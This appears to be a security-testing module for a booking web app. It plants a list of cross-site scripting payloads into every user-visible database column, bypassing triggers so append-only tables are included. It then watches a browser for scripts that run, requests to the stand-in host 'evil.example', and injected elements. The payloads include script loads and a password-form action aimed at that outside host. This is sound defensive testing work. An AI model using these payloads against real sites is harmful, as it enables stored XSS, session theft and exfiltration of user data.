import { Pool } from 'pg';
import type { Person } from './person.js';

/** What each payload does when a browser runs it. */
const RUN = 'window.__ran=1';
/** A host that no page of ours may ask. */
const ELSEWHERE = 'evil.example';

/** Texts that do something where they are shown as anything but text: in HTML, attributes, scripts, styles, addresses, JSON, templates. */
export const PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `<!--><script>${RUN}</script>`,
  `<script src=//${ELSEWHERE}/x.js></script>`,
  `<script type=module>import('//${ELSEWHERE}/x.js')</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="//${ELSEWHERE}/pixel">`,
  `<img src=x:x onerror=${RUN} `,
  `"onmouseover="${RUN}" autofocus onfocus="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus x='`,
  '` onerror=window.__ran=1 `',
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="//${ELSEWHERE}/x.swf">`,
  `<base href="//${ELSEWHERE}/">`,
  `<link rel=stylesheet href="//${ELSEWHERE}/x.css">`,
  `<meta http-equiv=refresh content="0;url=//${ELSEWHERE}/">`,
  `<form action="//${ELSEWHERE}/"><input name=password autofocus onfocus=${RUN}>`,
  `<a href="javascript:${RUN}">here</a>`,
  `javascript:${RUN}//`,
  `data:text/html,<script>${RUN}</script>`,
  `<style>*{background:url(//${ELSEWHERE}/x)}</style>`,
  `style="background:url(//${ELSEWHERE}/x)"`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<b id=root></b><form id=config><input name=user>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\u202e<script>${RUN}</script>\u2066`,
];

/** Columns with what people and operators write, as far as pages show them. */
const COLUMNS = {
  users: ['full_name', 'phone'],
  properties: ['title', 'description', 'address', 'neighbourhood'],
  booked_homes: ['title', 'address'],
  bookings: ['special_requests', 'cancellation_note'],
  reviews: ['title', 'comment', 'owner_reply'],
  threads: ['home_title'],
  messages: ['text'],
  message_templates: ['title', 'text'],
  arrival_guides: [
    'getting_there',
    'parking',
    'getting_in',
    'wifi_name',
    'good_to_know',
    'emergency',
    'checkout',
  ],
  support_requests: ['subject'],
  support_messages: ['text'],
  user_notes: ['text'],
  booking_notes: ['text'],
  perk_terms: ['title', 'description'],
  vouchers: ['title'],
  points_entries: ['description'],
  inbox_entries: ['title', 'text'],
  mails: ['to_name', 'subject', 'body_text'],
  sessions: ['device'],
  payable_holds: ['reason'],
  reconciliation_findings: ['note'],
  audit_log: ['reason'],
  settings: ['reason'],
  approvals: ['reason'],
} as const;

/** What takes long to come about. */
const ROWS = [
  `update properties set neighbourhood = 'Old Town'`,
  `insert into payable_holds (id, booking_id, reason, reference, placed_at)
     select gen_random_uuid(), id, 'Same phone', 'own-stay ' || id, now() from bookings where status = 'completed' limit 2`,
  `insert into reconciliation_findings (id, kind, object_id, note, found_at, seen_at, state)
     values (gen_random_uuid(), 'refund_forgotten', 're_1', 'A refund', now(), now(), 'open')`,
];

/** A chat stands in the request for support that followed it. */
const CHATS = 'support_requests.transcript';

/** `table.column` of every field that is planted. */
export const FIELDS: readonly string[] = [
  ...Object.entries(COLUMNS).flatMap(([table, columns]) => columns.map((column) => `${table}.${column}`)),
  CHATS,
];

/** $1: all payloads; $2: the mark. */
const intoColumn = (table: string, column: string): string =>
  `with numbered as (select ctid, row_number() over () - 1 as n from ${table} where ${column} is not null)
   update ${table} t set ${column} = $2 || ($1::text[])[1 + n % cardinality($1::text[])]
     from numbered where t.ctid = numbered.ctid`;

const INTO_CHATS = `
  update support_requests set transcript = (
    select jsonb_agg(line || jsonb_build_object('text', $2 || array_to_string($1::text[], ' ')))
      from jsonb_array_elements(transcript) as line)
   where jsonb_array_length(transcript) > 0`;

/** Marks a text with the field that it stands in. */
const markOf = (field: string): string => `⟦${field}⟧`;

/**
 * Puts a payload into every row of every field that has a text, the next one into the next row, past all that checks texts when they come in.
 * @returns the fields that have rows
 */
export async function plant(databaseUrl: string): Promise<string[]> {
  const pool = new Pool({ connectionString: databaseUrl, max: 1 });
  const client = await pool.connect();
  const planted: string[] = [];
  try {
    await client.query('set session_replication_role = replica'); // also into what is append-only
    for (const row of ROWS) await client.query(row);
    for (const field of FIELDS) {
      const [table = '', column = ''] = field.split('.');
      const { rowCount } = await client.query(field === CHATS ? INTO_CHATS : intoColumn(table, column), [
        PAYLOADS,
        markOf(field),
      ]);
      if (rowCount) planted.push(field);
    }
  } finally {
    client.release();
    await pool.end();
  }
  return planted;
}

/** Notes everything that a payload could do in this person's browser. Before the first page. */
export async function watchFor(
  person: Person,
): Promise<() => Promise<{ seen: Set<string>; done: string[] }>> {
  const done: string[] = [];
  const seen = new Set<string>();
  const { page } = person;
  page.on('dialog', (dialog) => {
    done.push(`dialog on ${page.url()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    if (request.url().includes(ELSEWHERE)) done.push(`${request.url()} asked by ${page.url()}`);
  });
  await page.addInitScript(`
    window.__refused = [];
    document.addEventListener('securitypolicyviolation', (event) =>
      window.__refused.push(event.violatedDirective + ' ' + event.blockedURI));`);
  return async () => {
    const found = await page.evaluate<{
      ran: boolean;
      refused: string[];
      marks: string[];
      planted: number;
    }>(`({
      ran: window.__ran === 1,
      refused: window.__refused,
      marks: [...(document.title + document.body.innerText + [...document.querySelectorAll('details')].map(({ textContent }) => textContent).join(' ') + [...document.querySelectorAll('input, textarea')]
        .map(({ value }) => value).join(' ')).matchAll(/⟦([\\w.]+)⟧/g)].map(([, field]) => field),
      planted: document.querySelectorAll(
        'script[src*="${ELSEWHERE}"], base, iframe:not([sandbox]), object, embed, math, a[href^="javascript:"], a[href^="data:"], #config, [onerror], [onload], [onfocus]',
      ).length,
    })`);
    const where = new URL(page.url()).pathname;
    if (found.ran) done.push(`a script ran on ${where}`);
    // A refused one was an element already: the policy is the second wall.
    for (const refused of found.refused) done.push(`the policy had to refuse ${refused} on ${where}`);
    if (found.planted > 0) done.push(`a text became an element on ${where}`);
    for (const field of found.marks) seen.add(field);
    return { seen, done };
  };
}
